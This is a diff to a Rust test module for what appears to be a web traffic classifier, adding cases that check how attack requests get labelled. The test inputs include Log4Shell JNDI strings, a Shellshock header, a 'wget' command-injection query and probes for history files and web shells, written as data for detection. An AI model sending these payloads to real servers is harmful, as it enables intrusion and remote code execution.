@@ -944,12 +944,43 @@ mod tests {
             ),
             (
                 rec("POST", "/a?id=1+UNION+SELECT+1", 200, ua),
-                &["http-flood", "sqli-probing"],
+                &["exploit-slow", "http-flood", "sqli-probing"],
             ),
             (
                 rec("POST", "/a?q=%3CScript%3E", 200, ua),
-                &["http-flood", "xss-probing"],
+                &["exploit-slow", "http-flood", "xss-probing"],
             ),
+            // What a search box sends: an apostrophe and SQL words, no payload.
+            (
+                rec("POST", "/search?q=o%27brien+union+jack+select+all", 200, ua),
+                &["http-flood"],
+            ),
+            (
+                rec("POST", "/?x=${jndi:ldap://a/b}", 200, ua),
+                &["cve-probing", "exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/", 200, "${${lower:j}ndi:ldap://x/a}"),
+                &["cve-probing", "exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c id"),
+                &["exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/a?cmd=;wget+http://x/s", 200, ua),
+                &["exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/_ignition/execute-solution", 404, ua),
+                &["cve-probing", "http-flood", "http-probing"],
+            ),
+            (
+                rec("POST", "/.mysql_history", 404, ua),
+                &["http-flood", "http-probing", "sensitive-files"],
+            ),
+            // Anchored: the dotfile itself, not a page named after it.
+            (rec("POST", "/.profile.html", 200, ua), &["http-flood"]),
             (
                 rec("POST", "/c99.php", 200, ua),
                 &["backdoor-probing", "http-flood"],
